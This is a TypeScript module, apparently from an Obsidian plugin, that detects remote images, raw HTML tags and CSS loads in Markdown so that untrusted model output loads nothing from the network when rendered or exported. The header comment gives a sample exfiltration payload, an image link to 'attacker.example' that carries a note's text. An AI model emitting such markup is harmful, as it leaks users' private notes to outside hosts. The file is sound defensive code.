// Finds everything in Markdown that would make a renderer fetch from the network as it renders:
// remote images (inline, reference-style, wiki embeds of a URL) and raw HTML. Model output is
// untrusted: `![](https://attacker.example/?q=<note text>)` would send a note's text away the moment
// the answer is shown. Engine-safe (no 'obsidian'): the panel and the export both use it.
//
// Why the Markdown and not the rendered DOM: Chromium starts loading an <img> as soon as the parser
// creates it with a src, before anyone could remove it, so the only airtight point is the text that
// reaches the renderer. The rules are chosen so no parse of ours can disagree with the renderer's:
// - every `![` is either a simple local image kept as written (a form every Markdown parser reads
//   the same way), or a remote image (replaced whole), or broken up so no image can form there;
// - every `<` that starts an HTML tag (`<` then a letter, or `</` then a letter: that is what the
//   browser's tokenizer needs) is broken up, except bare harmless tags with no attributes (`<br>`,
//   `<sub>`…) and autolinks (`<https://…>`, which are links and load nothing);
// - URLs are judged after undoing what a renderer decodes (entities, escapes, percent-encoding,
//   tabs and newlines, backslashes read as slashes); anything not clearly local counts as remote.
// Only top-level fenced code blocks are skipped (their text is shown as code, never parsed), and
// not `mermaid` ones, which are rendered as diagrams with HTML labels.

import { codeRegions } from "./codeRegions";
import { cleanUrl, hostOf, isRemoteUrl } from "./remoteUrls";

export { hostOf, isRemoteUrl };

export type RemoteLoadKind =
	/** A remote image, the whole syntax: shown as a placeholder (panel) or a plain link (export). */
	| "image"
	/** An autolink `<scheme:…>`: a plain link, kept as one. */
	| "autolink"
	/** Text that must not reach the renderer as written (a tag's `<`, an image's `!`, CSS `url(`). */
	| "inert";

export interface RemoteLoad {
	kind: RemoteLoadKind;
	start: number;
	end: number;
	/** The URL as a browser would read it (image, autolink). */
	url?: string;
	/** An image's alt text. */
	alt?: string;
}

/** Tags that load nothing and style nothing when written bare (no attributes). */
const BARE_TAGS = new Set(
	"b i u s em strong sub sup kbd mark small del ins code pre p div span br hr ul ol li blockquote table thead tbody tr th td details summary h1 h2 h3 h4 h5 h6 q cite abbr dl dt dd wbr".split(" "),
);
const BARE_TAG = /^<\/?([A-Za-z][A-Za-z0-9]*)[ \t]*\/?>/;
// eslint-disable-next-line no-control-regex -- control characters are what this looks for
const AUTOLINK = /^<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>\u0000-\u001f]*>/;
const EMAIL_AUTOLINK = /^<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*>/;
/** Places worth a closer look: images, tags, CSS that loads (for diagrams), and code fences. */
const CANDIDATE = /!\[|<\/?[A-Za-z]|(?<![\w-])(?:url|src|image|image-set|-webkit-image-set)\(|@import/gi;
/** `<img>` with only a `data:` source (and alt): shows inline data, loads nothing. */
const DATA_IMAGE_TAG = /^<img[ \t]+src="data:[^"&\\<>]*"(?:[ \t]+alt="[^"&\\<>]*")?[ \t]*\/?>/i;
/** Longest bracketed text or destination examined; longer counts as unreadable (and is broken up). */
const MAX_SCAN = 4000;

/** Index just past the `]` matching the `[` at `open`, or -1. Escapes and nesting as CommonMark. */
function closeBracket(md: string, open: number): number {
	let depth = 0;
	const limit = Math.min(md.length, open + MAX_SCAN);
	for (let i = open; i < limit; i++) {
		const c = md[i];
		if (c === "\\") i++;
		else if (c === "[") depth++;
		else if (c === "]" && --depth === 0) return i + 1;
	}
	return -1;
}

/** Parses `(dest "title")` starting at the `(` at `open`: the destination text and the end. */
function parseInlineTarget(md: string, open: number): { dest: string; end: number } | undefined {
	let i = open + 1;
	const skipSpace = (): void => {
		let newlines = 0;
		while (i < md.length && (md[i] === " " || md[i] === "\t" || (md[i] === "\n" && ++newlines <= 1))) i++;
	};
	skipSpace();
	let dest = "";
	if (md[i] === "<") {
		const close = md.slice(i + 1, i + 1 + MAX_SCAN).search(/(?<!\\)[<>\n]/);
		if (close < 0 || md[i + 1 + close] !== ">") return undefined;
		dest = md.slice(i + 1, i + 1 + close);
		i += close + 2;
	} else {
		const startDest = i;
		let depth = 0;
		for (; i < md.length && i - startDest < MAX_SCAN; i++) {
			const c = md[i] ?? "";
			if (c === "\\") i++;
			else if (c === "(") depth++;
			else if (c === ")" && depth-- === 0) break;
			// eslint-disable-next-line no-control-regex -- control characters are what this looks for
			else if (/[\s\u0000-\u001f]/.test(c)) break;
		}
		dest = md.slice(startDest, i);
	}
	skipSpace();
	const quote = md[i];
	if (quote === '"' || quote === "'" || quote === "(") {
		const closer = quote === "(" ? ")" : quote;
		let j = i + 1;
		for (; j < md.length && j - i < MAX_SCAN && md[j] !== closer; j++) if (md[j] === "\\") j++;
		if (md[j] !== closer) return undefined;
		i = j + 1;
		skipSpace();
	}
	return md[i] === ")" ? { dest, end: i + 1 } : undefined;
}

/** `[label]: destination` lines, read leniently (inside quotes and lists too). */
function referenceDefinitions(md: string): Map<string, string[]> {
	const defs = new Map<string, string[]>();
	const re = /^[ \t>]*(?:[-*+]|\d{1,9}[.)])?[ \t]*\[((?:[^[\]\\]|\\.){1,999})\]:[ \t]*\n?[ \t>]*(<[^<>\n]*>|\S+)/gm;
	for (let m = re.exec(md); m; m = re.exec(md)) {
		const label = normalizeLabel(m[1] ?? "");
		const dest = (m[2] ?? "").replace(/^<([\s\S]*)>$/, "$1");
		defs.set(label, [...(defs.get(label) ?? []), dest]);
	}
	return defs;
}

const normalizeLabel = (label: string): string => label.trim().replace(/\s+/g, " ").toUpperCase().toLowerCase();

/** A local image written so plainly that every Markdown parser reads the same destination. */
const SIMPLE_IMAGE = /^!\[[^[\]\\`<>!&\n]*\]\((?:[^\s()<>\\&"'`]+|<[^<>\n\\&]*>)(?:[ \t]+"[^"\\&<>\n]*")?\)$/;

/** Every remote load in `md`, in order, not overlapping. */
export function findRemoteLoads(md: string): RemoteLoad[] {
	const loads: RemoteLoad[] = [];
	let defs: Map<string, string[]> | undefined;
	const code = codeRegions(md);
	// Unsure where diagrams are: CSS counts as a diagram's from the first one on.
	const firstDiagram = code ? -1 : md.search(/^[ \t>]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+)*(?:`{3,}|~{3,})[ \t]*mermaid/im);
	const inDiagram = (at: number): boolean => (code ? code.mermaid.some(([s, e]) => at >= s && at < e) : firstDiagram >= 0 && at >= firstDiagram);
	let skipIndex = 0;
	CANDIDATE.lastIndex = 0;
	for (let m = CANDIDATE.exec(md); m; m = CANDIDATE.exec(md)) {
		const at = m.index;
		const token = m[0];
		let next = at + token.length;
		while (code && skipIndex < code.skip.length && (code.skip[skipIndex]?.[1] ?? 0) <= at) skipIndex++;
		const region = code?.skip[skipIndex];
		if (region && at >= region[0]) {
			next = region[1];
		} else if (token === "![") {
			const load = imageAt(md, at, () => (defs ??= referenceDefinitions(md)));
			if (load) {
				loads.push(load);
				next = load.end;
			} else next = skipSimpleImage(md, at);
		} else if (token.startsWith("<")) {
			const rest = md.slice(at, at + MAX_SCAN);
			const link = AUTOLINK.exec(rest) ?? EMAIL_AUTOLINK.exec(rest);
			const bare = BARE_TAG.exec(rest);
			const dataImage = DATA_IMAGE_TAG.exec(rest);
			if (link) {
				const text = link[0].slice(1, -1);
				loads.push({ kind: "autolink", start: at, end: at + link[0].length, url: /^[A-Za-z][A-Za-z0-9+.-]*:/.test(text) ? text : `mailto:${text}` });
				next = at + link[0].length;
			} else if (bare && BARE_TAGS.has((bare[1] ?? "").toLowerCase())) {
				next = at + bare[0].length;
			} else if (dataImage) {
				next = at + dataImage[0].length;
			} else {
				const img = htmlImageAt(md, at);
				if (img) {
					loads.push(img);
					next = img.end;
				} else loads.push({ kind: "inert", start: at, end: next });
			}
		} else if (inDiagram(at)) {
			loads.push({ kind: "inert", start: at, end: next });
		}
		CANDIDATE.lastIndex = Math.max(next, at + 1);
	}
	return loads;
}

/** After a kept simple local image: scanning resumes past it (its alt holds nothing to check). */
function skipSimpleImage(md: string, at: number): number {
	const close = closeBracket(md, at + 1);
	const target = close > 0 && md[close] === "(" ? parseInlineTarget(md, close) : undefined;
	return target?.end ?? at + 2;
}

/** The load an `![` at `at` makes: undefined for a simple local image, which is kept as written. */
function imageAt(md: string, at: number, definitions: () => Map<string, string[]>): RemoteLoad | undefined {
	const inert: RemoteLoad = { kind: "inert", start: at, end: at + 1 };
	const close = closeBracket(md, at + 1);
	if (close < 0) return inert;
	const alt = md.slice(at + 2, close - 1);
	if (md[close] === "(") {
		const target = parseInlineTarget(md, close);
		if (target) {
			if (isRemoteUrl(target.dest)) return { kind: "image", start: at, end: target.end, url: cleanUrl(target.dest), alt: plainAlt(alt) };
			return SIMPLE_IMAGE.test(md.slice(at, target.end)) ? undefined : inert;
		}
	}
	let label = alt;
	let end = close;
	if (md[close] === "[") {
		const second = closeBracket(md, close);
		if (second > 0) {
			const ref = md.slice(close + 1, second - 1);
			if (ref.trim() !== "") label = ref;
			end = second;
		}
	} else if (/^\[[^[\]]*\]$/.test(alt)) {
		// A wiki embed `![[target|alias]]`: a vault file, unless the target is an address.
		const targetText = alt.slice(1, -1).split(/[|#^]/)[0] ?? "";
		if (!isRemoteUrl(targetText)) return undefined;
		return { kind: "image", start: at, end: close, url: cleanUrl(targetText), alt: plainAlt(alt.slice(1, -1).split("|")[1] ?? "") };
	}
	const remote = (definitions().get(normalizeLabel(label)) ?? []).find(isRemoteUrl);
	if (remote !== undefined) return { kind: "image", start: at, end, url: cleanUrl(remote), alt: plainAlt(alt) };
	// A reference image that resolves locally, or not at all: shown as a link (or as text).
	return inert;
}

/** `<img …>` with a remote src or srcset: the whole tag, so it can become a placeholder. */
function htmlImageAt(md: string, at: number): RemoteLoad | undefined {
	const tag = /^<img(?=[\s/])((?:[^>"']|"[^"]*"|'[^']*')*)>/i.exec(md.slice(at, at + MAX_SCAN));
	if (!tag) return undefined;
	const attrs = tag[1] ?? "";
	const attr = (name: string): string | undefined => {
		const m = new RegExp(`(?:^|[\\s/])${name}\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s"'=<>\`]+))`, "i").exec(attrs);
		return m ? (m[1] ?? m[2] ?? m[3] ?? "") : undefined;
	};
	const src = attr("src") ?? attr("srcset")?.trim().split(/\s+/)[0];
	if (src === undefined || !isRemoteUrl(src)) return undefined;
	return { kind: "image", start: at, end: at + tag[0].length, url: cleanUrl(src, false), alt: attr("alt") ?? "" };
}

/** Alt text as plain words: no brackets, escapes or Markdown marks to confuse a link built from it. */
function plainAlt(alt: string): string {
	return alt.replace(/\\(.)/g, "$1").replace(/[[\]`*_<>!\\|]/g, "").replace(/\s+/g, " ").trim();
}

const ZERO_WIDTH_SPACE = "\u200b";

/**
 * Markdown for an exported note that loads nothing from the network when Obsidian shows it: a remote
 * image becomes a plain link, autolinks stay, and a tag's `<` or an image's `!` that could load
 * something gets a zero-width space after it (invisible, and no tag or image can form).
 */
export function exportSafeMarkdown(md: string): string {
	const loads = findRemoteLoads(md);
	if (loads.length === 0) return md;
	let out = "";
	let pos = 0;
	for (const load of loads) {
		out += md.slice(pos, load.start);
		const text = md.slice(load.start, load.end);
		if (load.kind === "image") out += imageLink(load);
		else if (load.kind === "inert") out += text.slice(0, 1) + ZERO_WIDTH_SPACE + text.slice(1);
		else out += text;
		pos = load.end;
	}
	return out + md.slice(pos);
}

/** `[alt](<url>)`: a link a person can follow, named after the image or its host. */
export function imageLink(load: RemoteLoad): string {
	const url = (load.url ?? "").replace(/[<>\n\\]/g, (c) => encodeURIComponent(c));
	const text = load.alt !== undefined && load.alt !== "" ? load.alt : `Image from ${hostOf(load.url ?? "")}`;
	return `[${text.replace(/[[\]\\]/g, "")}](<${url}>)`;
}
